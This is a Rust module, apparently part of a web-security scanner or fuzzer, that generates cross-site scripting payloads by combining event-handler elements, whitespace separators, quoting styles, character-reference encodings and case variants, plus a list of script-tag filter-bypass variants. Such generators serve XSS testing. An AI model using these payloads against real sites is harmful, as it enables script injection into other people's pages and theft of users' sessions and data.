//! Elements that run something by themselves: each with each separator, each way to quote, each spelling of its names.

/// An element and what makes it run: `|` is where white space stands between attributes, `~` the attribute with the code.
const ELEMENTS: &[(&str, &str, &str)] = &[
    ("img|src=x|~>", "onerror", ""),
    ("img|srcset=x|~>", "onerror", ""),
    ("image|src=x|~>", "onerror", ""),
    ("svg|~>", "onload", "</svg>"),
    ("iframe|~>", "onload", "</iframe>"),
    ("body|~>", "onload", ""),
    ("body|~>", "onpageshow", ""),
    ("video|src=x|~>", "onerror", "</video>"),
    ("audio|src=x|~>", "onerror", "</audio>"),
    ("video><source|src=x|~>", "onerror", "</video>"),
    ("object|data=x:|~>", "onerror", "</object>"),
    ("embed|src=/x|~>", "onload", ""),
    ("link|rel=stylesheet|href=x:|~>", "onerror", ""),
    ("script|src=x:|~>", "onerror", "</script>"),
    ("style|~>", "onload", "</style>"),
    ("input|type=image|src=x|~>", "onerror", ""),
    ("input|autofocus|~>", "onfocus", ""),
    ("textarea|autofocus|~>", "onfocus", "</textarea>"),
    ("select|autofocus|~>", "onfocus", "</select>"),
    ("a|autofocus|href=x|~>", "onfocus", "x</a>"),
    ("p|tabindex=1|autofocus|~>", "onfocus", "x</p>"),
    ("details|open|~>", "ontoggle", "</details>"),
    ("marquee|~>", "onstart", "x</marquee>"),
    (
        "svg><animate|attributeName=x|dur=1s|~>",
        "onbegin",
        "</svg>",
    ),
    ("svg><set|attributeName=x|~>", "onbegin", "</svg>"),
    ("math><mtext><img|src=x|~>", "onerror", "</math>"),
    ("table><tr><td><img|src=x|~>", "onerror", "</table>"),
    ("picture><img|src=x|~>", "onerror", "</picture>"),
];

const SEPARATORS: [&str; 6] = [" ", "/", "\t", "\n", "\u{c}", " /\n"];

/// Two of them spell the code in character references.
const VALUES: [&str; 7] = [
    "=@",
    "=\"@\"",
    "='@'",
    " = \"@\"",
    "=\"top.hit&lpar;№&rpar;\"",
    "=&#116op&#x2e;hi&#116(№)",
    "=\";;@;//\"",
];

const SPELLINGS: [fn(&str) -> String; 3] = [str::to_owned, str::to_ascii_uppercase, alternating];

fn alternating(name: &str) -> String {
    let turn = |(at, c): (usize, char)| {
        if at % 2 == 0 {
            c
        } else {
            c.to_ascii_uppercase()
        }
    };
    name.chars().enumerate().map(turn).collect()
}

pub(in crate::payloads) fn payloads() -> Vec<String> {
    let mut all = Vec::new();
    for (at, (element, event, end)) in ELEMENTS.iter().enumerate() {
        for (other, separator) in SEPARATORS.iter().enumerate() {
            for (third, value) in VALUES.iter().enumerate() {
                // A third of the spellings each, so that all of them occur with all of the rest.
                let spelling = SPELLINGS[(at + other + third) % SPELLINGS.len()];
                let attribute = format!("{}{value}", spelling(event));
                let (name, rest) = element.split_at(element.find(['|', '>']).unwrap_or(0));
                let markup = format!("<{}{rest}{end}", spelling(name));
                all.push(markup.replace('|', separator).replace('~', &attribute));
            }
        }
        // Left open: the browser closes it at the end of what stands behind.
        let open = element.trim_end_matches('>').replace('|', " ");
        all.push(format!("<{}", open.replace('~', &format!("{event}=@ "))));
        all.push(format!("<{}//", open.replace('~', &format!("{event}=@"))));
        all.push(format!("<<{}>", open.replace('~', &format!("{event}=@"))));
    }
    for script in [
        "<script>@</script>",
        "<SCRIPT>@</SCRIPT>",
        "<ScRiPt>@</sCrIpT>",
        "<script\n>@</script\n>",
        "<script/x>@</script/x>",
        "<script>@",
        "<script type=text/javascript>@</script>",
        "<script type=module>@</script>",
        "<script async defer>@</script>",
        "<script><!--\n@\n--></script>",
        "<script>//<![CDATA[\n@//]]></script>",
        "<svg><script>@</script></svg>",
        "<svg><script>&#64;@</script></svg>",
        "<svg><script xlink:href=data:,@></script></svg>",
        "<script src=data:,@></script>",
        "<script src='data:text/javascript,@'></script>",
        "<script>/*</script><script>*/@</script>",
        "<script>@</script foo=\"bar\">",
        "<scr<script>ipt>@</scr</script>ipt>",
        "<script nonce>@</script>",
    ] {
        all.push(script.to_owned());
    }
    all
}
